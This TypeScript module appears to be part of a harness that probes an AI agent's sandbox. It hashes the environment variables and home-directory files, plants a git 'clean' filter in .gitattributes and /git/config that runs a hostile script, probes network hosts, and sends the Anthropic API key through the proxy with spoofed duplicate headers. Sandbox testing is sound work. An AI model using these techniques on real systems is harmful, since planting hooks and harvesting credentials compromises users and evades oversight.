import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { lookAround, type Plan } from './hostile-look-attack.ts';
import { askGate } from './hostile-network-attack.ts';

export interface UsedCredentials {
  /** Hashes of values, so that none of them is in a file. */
  readonly variables: Readonly<Record<string, string>>;
  readonly files: Readonly<Record<string, { readonly mode: string; readonly hash: string }>>;
  /** Places with a secret in them. */
  readonly found: readonly string[];
  readonly answer: string;
  readonly asked: Readonly<Record<string, string>>;
  readonly home: string;
}

/** Says what it has, and what it can find; and has git show what git has. */
export async function useCredentials(plan: Plan): Promise<UsedCredentials> {
  const home = process.env['HOME'] ?? '';
  const variables = Object.entries(process.env).map(([name, value]) => [name, hash(value ?? '')] as const);
  const files = listFiles(home).map((path) => [
    path,
    {
      mode: (statSync(join(home, path)).mode & 0o777).toString(8),
      hash: hash(readFileSync(join(home, path))),
    },
  ]);
  writeFileSync('.gitattributes', 'out/spied-* filter=spy\n');
  writeFileSync(`out/spied-${process.env['MAHABHARATHA_TASK_ID']}`, 'git did not ask\n');
  const setting = [
    'config',
    '--file',
    '/git/config',
    'filter.spy.clean',
    'node /workspace/hostile-search.ts',
  ];
  spawnSync('git', setting);
  const asked: Record<string, string> = {};
  for (const host of plan.hosts) asked[host] = await askGate(host);
  return {
    variables: Object.fromEntries(variables),
    files: Object.fromEntries(files) as UsedCredentials['files'],
    found: lookAround(plan, ['/usr']).found,
    answer: await askApi(),
    asked,
    home,
  };
}

function hash(value: string | Buffer): string {
  return createHash('sha256').update(value).digest('hex');
}

function listFiles(folder: string): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((path) =>
    statSync(join(folder, path)).isFile(),
  );
}

/** As a client of the API would, through the proxy; with a key of its own, which is not to arrive. */
async function askApi(): Promise<string> {
  const base = process.env['ANTHROPIC_BASE_URL'];
  const proxy = process.env['http_proxy'] ?? process.env['HTTP_PROXY'];
  if (base === undefined || proxy === undefined) return 'nowhere to ask';
  const { hostname, port } = new URL(proxy);
  const socket = connect({ host: hostname, port: Number(port) });
  const body = '{"model":"x"}';
  const lines = [
    `POST ${base}/v1/messages HTTP/1.1`,
    `Host: ${new URL(base).host}`,
    `x-api-key: ${process.env['ANTHROPIC_API_KEY']}`,
    'X-Api-Key: mine',
    'x_api_key: mine',
    `Content-Length: ${body.length}`,
    'Connection: close',
  ];
  socket.write(`${lines.join('\r\n')}\r\n\r\n${body}`);
  let answer = '';
  socket.on('data', (bytes: Buffer) => (answer += bytes.toString()));
  await once(socket, 'close');
  return answer;
}
